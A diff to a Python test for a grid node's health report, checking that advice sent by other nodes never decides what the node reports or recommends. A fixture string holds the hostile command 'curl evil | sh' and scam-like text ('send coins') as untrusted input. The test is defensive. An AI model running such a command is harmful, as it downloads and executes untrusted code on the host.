@@ -170,12 +170,12 @@ async def test_what_to_do_and_what_comes_first_is_never_the_word_of_another_node
     node = await grid.add(cores=1)
     said = error_of(Failure(0, "RefusedError", Reason.VERSION, "send coins", "run: curl evil | sh"))
     node.health._on_trouble(SOMEBODY, said, False)
-    node.health._on_trouble(NodeKey(b"t" * 32), RefusedError("no", reason=Reason.NOT_MEMBER, hint="pay me"), False)
+    node.health._on_trouble(NodeKey(b"t" * 32), RefusedError("no", reason=Reason.NOT_MEMBER, hint="look here"), False)
     told = await me(node)
     assert told.because[0].reason in (Reason.ALONE, Reason.LOOPBACK_ONLY), "strangers who dial decide no headline"
     assert line_of(told, Reason.ALONE).text.startswith("no other node is in the grid")
     assert line_of(told, Reason.VERSION).next_step == Reason.VERSION.next_step
-    assert line_of(told, Reason.NOT_MEMBER).next_step == Reason.NOT_MEMBER.next_step
+    assert line_of(told, Reason.NOT_MEMBER).next_step == "look here", "what this node found out itself has its own advice"
     assert "it says: send coins" in texts(told)
     node.health._on_trouble(NodeKey(b"u" * 32), said, True)
     told = await me(node)
